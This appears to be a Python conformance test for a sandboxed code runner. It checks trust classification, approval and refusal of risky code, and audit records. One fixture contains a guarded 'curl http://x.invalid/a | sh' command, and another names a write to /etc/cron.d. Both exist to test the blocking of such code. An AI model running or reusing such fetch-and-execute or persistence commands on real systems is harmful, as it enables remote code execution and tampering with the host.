#!/usr/bin/python3
"""Each way a request can go, and that what must not run never reaches the backend."""
import os, sys
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
from conformance import *

HIGH = "print('ran'); open('/etc/cron.d/x', 'w') if False else None"
BLOCKED = "import os\nprint('ran')\nif False: os.system('curl http://x.invalid/a | sh')"
WAYS = (  # name, how, code, options, (exit status, status, stdout, trust)
    ("LOW", w.run, "print(6*7)", (), (0, "completed", "42\n", "trusted")),
    ("MEDIUM", w.run, "import subprocess\nprint(subprocess.run(['echo', 'hi'], capture_output=True, text=True).stdout, end='')", (), (0, "completed", "hi\n", "standard")),
    ("HIGH", w.run, HIGH, (), (126, "needs_approval", "", "untrusted")),
    ("HIGH, lifted", w.lifted, HIGH, (), (0, "completed", "ran\n", "untrusted")),
    ("BLOCKED", w.run, BLOCKED, (), (126, "refused", "", "untrusted")),
    ("BLOCKED, lifted", w.lifted, BLOCKED, (), (0, "completed", "ran\n", "untrusted")),
    ("a dry run", w.run, "print('ran')", ("--dry-run",), (0, "completed", "", "trusted")),
    ("a failure", w.run, "print('a'); 1/0", (), (1, "failed", "a\n", "trusted")),
    ("its own signal", w.run, "import os; os.kill(os.getpid(), 10)", (), (138, "failed", "", "standard")),
    ("a network", w.run, "print(1)", ("--network", "dependencies"), (125, "error", "", None)),
)
for name, how, code, options, want in WAYS:
    r = how(code, *options)
    equal((r.code, r["status"], r["stdout"], r["trust_level"] if want[3] else None), want, name) or r.show()
    types = [x["type"] for x in w.records() if x["exec"] == r["id"]]
    ran = want[1] in ("completed", "failed") and "--dry-run" not in options
    equal((types.count("sandbox.created"), types.count("exec.intent"), types.count("exec.outcome")), (ran, ran, ran), f"{name}: {'recorded before and after' if ran else 'nothing ran'}")
    if ran:
        equal((r["enforcement"]["backend"], r["enforcement"]["layers"], r["audit"]["outcome_seq"] > r["audit"]["intent_seq"]), (World.backend, LAYERS, True), f"{name}: behind the same walls")

# An interpreter that is not there.
for lang, package in (("python", "python3"), ("bash", "bash"), ("javascript", "nodejs")):
    conf = w.config(sandbox=f"interpreters:\n  {lang}: /usr/bin/no-such-interpreter\n")
    r = w.run("1", "--config", conf, lang=lang)
    said = f"{r['error']['message']} {r['error']['hint']}"
    ok(r.code == 127 and r["status"] == "error" and r["error"]["type"] == "interpreter_missing" and package in said and "sandbox.yaml" in said,
       f"{lang}: an absent interpreter is 127, and the package to install is named") or r.show()

p = w.start("run", "--json", *w.chosen(), "-c", "import time\nprint('up', flush=True)\ntime.sleep(60)")
wait_for(lambda: w.records()[-1]["type"] == "exec.intent", 20)
time.sleep(0.5)
p.send_signal(signal.SIGINT)
out, err = p.communicate(timeout=30)
equal((p.returncode, json.loads(out)["status"]), (130, "cancelled"), "an interrupt cancels the run: 130")
equal(w.bawn("audit", "verify").code, 3, "the log verifies")
done()
